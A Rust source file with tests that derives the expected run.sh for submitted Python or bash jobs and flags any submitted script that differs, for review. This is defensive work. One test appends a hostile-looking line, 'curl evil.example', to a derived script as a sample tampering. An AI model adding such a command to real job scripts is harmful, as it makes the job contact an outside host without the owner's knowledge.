//! The script that runs a job: `run.sh`, derived from what the job says of itself.
//!
//! Pure. A Python owner executes the submitted `run.sh`; ours never trusts it. [`derive`] makes
//! the script that the Python client would have written, byte for byte, and [`check_script`] tells
//! whether the submitted one is that script, so that a review can show the difference.

use super::config::{JobConfig, JobKind};

/// The Python that jobs ask for; the Python client knows no other.
pub(crate) const PYTHON_VERSION: &str = "3.12";

/// What a shell job lacks that cannot be derived.
pub(crate) const NO_START: &str = "the script to start is missing";

/// How the submitted `run.sh` compares with the derived one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ScriptCheck {
    /// It is the derived script.
    AsDerived,
    /// It is another script; a reviewer has to see both.
    Differs {
        /// What the job's configuration amounts to.
        derived: String,
    },
    /// The configuration does not amount to a script, for instance because it names no file to
    /// start.
    Underivable {
        /// What is missing.
        reason: &'static str,
    },
}

/// Returns the `run.sh` of a job.
///
/// `has_pyproject`: whether a folder was submitted with `pyproject.toml` at its root.
/// `start`: the text of the script that a bash job starts; not used for Python.
///
/// # Errors
/// Says what the configuration lacks.
pub fn derive(
    config: &JobConfig,
    has_pyproject: bool,
    start: Option<&str>,
) -> Result<String, &'static str> {
    match config.kind {
        JobKind::Bash => start.map(str::to_owned).ok_or(NO_START),
        JobKind::Python => {
            let entrypoint = config.entrypoint.as_ref().ok_or("it names no file to start")?;
            let sync = if has_pyproject && config.is_folder_submission {
                format!("uv sync --python {PYTHON_VERSION}\n")
            } else {
                String::new()
            };
            let packages: Vec<_> =
                config.dependencies.iter().map(|dependency| format!("\"{dependency}\"")).collect();
            Ok(format!(
                "#!/bin/bash\n\
                 set -euo pipefail\n\
                 export UV_SYSTEM_PYTHON=false\n\
                 cd code\n\
                 uv venv --python {PYTHON_VERSION}\n\
                 source .venv/bin/activate\n\
                 {sync}\
                 uv pip install {}\n\
                 export PYTHONPATH=.:${{PYTHONPATH:-}}\n\
                 python {entrypoint}\n",
                packages.join(" ")
            ))
        }
    }
}

/// Compares the submitted `run.sh` with the derived one, byte for byte.
pub fn check_script(
    submitted: &[u8],
    config: &JobConfig,
    has_pyproject: bool,
    start: Option<&str>,
) -> ScriptCheck {
    match derive(config, has_pyproject, start) {
        Ok(derived) if derived.as_bytes() == submitted => ScriptCheck::AsDerived,
        Ok(derived) => ScriptCheck::Differs { derived },
        Err(reason) => ScriptCheck::Underivable { reason },
    }
}

/// Where the script that a bash job starts lies below `code/`.
pub(crate) fn bash_start(config: &JobConfig) -> &str {
    config.entrypoint.as_ref().map_or("script.sh", |path| path.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jobs::layout::Layout;

    const CENSUS: &str = include_str!("../../fixtures/jobs/census-count/config.yaml");
    const BASH: &str = include_str!("../../fixtures/jobs/bash job/config.yaml");

    fn config(text: &str) -> JobConfig {
        JobConfig::parse(Layout::Flat, text.as_bytes()).unwrap()
    }

    #[test]
    fn the_derived_script_is_the_one_that_the_python_client_wrote() {
        let script = include_str!("../../fixtures/jobs/census-count/run.sh");
        assert_eq!(derive(&config(CENSUS), false, None).as_deref(), Ok(script));

        let script = include_str!("../../fixtures/jobs/bash job/run.sh");
        let start = include_str!("../../fixtures/jobs/bash job/code/script.sh");
        assert_eq!(derive(&config(BASH), false, Some(start)).as_deref(), Ok(script));
    }

    #[test]
    fn the_second_generation_writes_the_same_script_in_both_layouts() {
        const JOB: [(&str, &str); 2] = [
            (
                include_str!(
                    "../../fixtures/jobs010/job_layout_0/do@example.com/app_data/job/inbox/ds@example.com/job1/config.yaml"
                ),
                include_str!(
                    "../../fixtures/jobs010/job_layout_0/do@example.com/app_data/job/inbox/ds@example.com/job1/run.sh"
                ),
            ),
            (
                include_str!(
                    "../../fixtures/jobs010/job_layout_1/do@example.com/app_data/job/inbox/ds@example.com/v1/job1/config.yaml"
                ),
                include_str!(
                    "../../fixtures/jobs010/job_layout_1/do@example.com/app_data/job/inbox/ds@example.com/v1/job1/run.sh"
                ),
            ),
        ];
        for (layout, (config, script)) in Layout::ALL.into_iter().zip(JOB) {
            let config = JobConfig::parse(layout, config.as_bytes()).unwrap();
            assert_eq!(derive(&config, false, None).as_deref(), Ok(script));
        }
        let mut project = config(JOB[0].0);
        project.dependencies.truncate(1);
        project.is_folder_submission = true;
        let script = include_str!("../../fixtures/jobs010/run_sh_pyproject.sh");
        assert_eq!(derive(&project, true, None).as_deref(), Ok(script));
    }

    #[test]
    fn a_project_is_synced_before_its_dependencies_are_installed() {
        let mut project = config(CENSUS);
        assert!(!derive(&project, true, None).unwrap().contains("uv sync"), "a file, no folder");
        project.is_folder_submission = true;
        let script = derive(&project, true, None).unwrap();
        assert!(script.contains(
            "source .venv/bin/activate\nuv sync --python 3.12\nuv pip install \"syft-client==0.1.117\" \"numpy\"\n"
        ));
    }

    #[test]
    fn w2_a_script_that_differs_is_shown() {
        let config = config(CENSUS);
        let derived = derive(&config, false, None).unwrap();
        assert_eq!(check_script(derived.as_bytes(), &config, false, None), ScriptCheck::AsDerived);
        let hostile = format!("{derived}curl evil.example\n");
        assert_eq!(
            check_script(hostile.as_bytes(), &config, false, None),
            ScriptCheck::Differs { derived }
        );
        let nothing = JobConfig { entrypoint: None, ..config };
        assert!(matches!(
            check_script(b"", &nothing, false, None),
            ScriptCheck::Underivable { .. }
        ));
    }
}
